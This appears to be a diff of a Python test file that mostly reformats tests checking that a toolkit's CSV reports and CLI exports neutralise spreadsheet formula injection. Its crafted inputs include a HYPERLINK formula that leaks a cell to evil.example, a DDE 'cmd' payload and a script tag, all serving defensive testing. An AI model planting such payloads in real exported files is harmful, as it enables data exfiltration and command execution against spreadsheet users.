@@ -15,15 +15,15 @@ import io
 
 import pandas as pd
 import pytest
-
 from test_errors import SAMPLE, clone, edit_manifest
+
 from toolkit.core.errors import ManifestError
 from toolkit.engine.session import load_program
-from toolkit.sources import open_program
 from toolkit.reports.collision import FORMULA_TRIGGERS, REPORT_COLUMNS, collision_report, read_report, to_csv
+from toolkit.sources import open_program
 
 CRAFTED = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     "+SUM(1,2)",
     "-1+2",
@@ -31,7 +31,7 @@ CRAFTED = [
     "\t=1+1",
     "\r=1+1",
     "'=already quoted",
-    "a,b;\"c\"\r\nd",  # separators, quotes and a line break inside one cell
+    'a,b;"c"\r\nd',  # separators, quotes and a line break inside one cell
     "<script>alert(1)</script>",
     "x" * 10_000,  # very long
     "Gewichte.Ü.自注意力.веса.🙂",  # non-ASCII, beyond the BMP too
@@ -84,6 +84,7 @@ def test_crafted_constant_names_through_a_failed_load(base, tmp_path):
         for m in d["methods"]:
             for c in m["constants"]:
                 c["name"], c["fqn"] = next(names), next(names)
+
     edit_manifest(root, craft)
     program = open_program(root)
     constants = [c for m in program.methods for c in m.constants]
@@ -113,6 +114,7 @@ def test_unencodable_text_is_refused_when_the_manifest_is_read(base, tmp_path, w
             d["description"] = bad
         else:
             d["methods"][0]["constants"][0]["fqn"] = bad
+
     edit_manifest(root, craft)
     with pytest.raises(ManifestError, match="not valid Unicode"):
         open_program(root)
@@ -133,8 +135,10 @@ def hostile_zoo(root, n: int = 1, constants: int = 3) -> list:
 
     out = []
     for i in range(n):
-        manifest = write_synthetic(SyntheticSpec(methods=2, constants=constants, device="cpu", hidden=8, seed=i,
-                                                 name=f"=p{i}"), root / f"=HYPERLINK({i})")
+        manifest = write_synthetic(
+            SyntheticSpec(methods=2, constants=constants, device="cpu", hidden=8, seed=i, name=f"=p{i}"),
+            root / f"=HYPERLINK({i})",
+        )
         d = json.loads(manifest.read_text())
         for m, fqn in zip(d["methods"], HOSTILE):
             m["constants"][0]["fqn"] = fqn
@@ -155,9 +159,11 @@ def test_every_cli_csv_neutralises_hostile_cells(tmp_path, monkeypatch, capsys):
     (prog,) = hostile_zoo(tmp_path)
     monkeypatch.chdir(tmp_path)  # scan . : the path cells are the hostile folder names themselves
     monkeypatch.setattr(pd.DataFrame, "to_csv", lambda *a, **k: pytest.fail("a CSV bypassed the one writer"))
-    runs = {"report": ["report", prog.name, "--dry-run", "--csv", "r.csv"],
-            "compare": ["compare", prog.name, "--dry-run", "--csv", "c.csv"],
-            "scan": ["scan", ".", "--policies", "fingerprint", "--csv", "s.csv", "--jobs", "1"]}
+    runs = {
+        "report": ["report", prog.name, "--dry-run", "--csv", "r.csv"],
+        "compare": ["compare", prog.name, "--dry-run", "--csv", "c.csv"],
+        "scan": ["scan", ".", "--policies", "fingerprint", "--csv", "s.csv", "--jobs", "1"],
+    }
     escaped = {"report": {"'=p0", "'=1+1", "'@SUM(1)"}, "compare": set(), "scan": {"'=p0", "'=HYPERLINK(0)"}}
     for what, argv in runs.items():
         assert main(argv) in (0, 1), (what, capsys.readouterr().err)
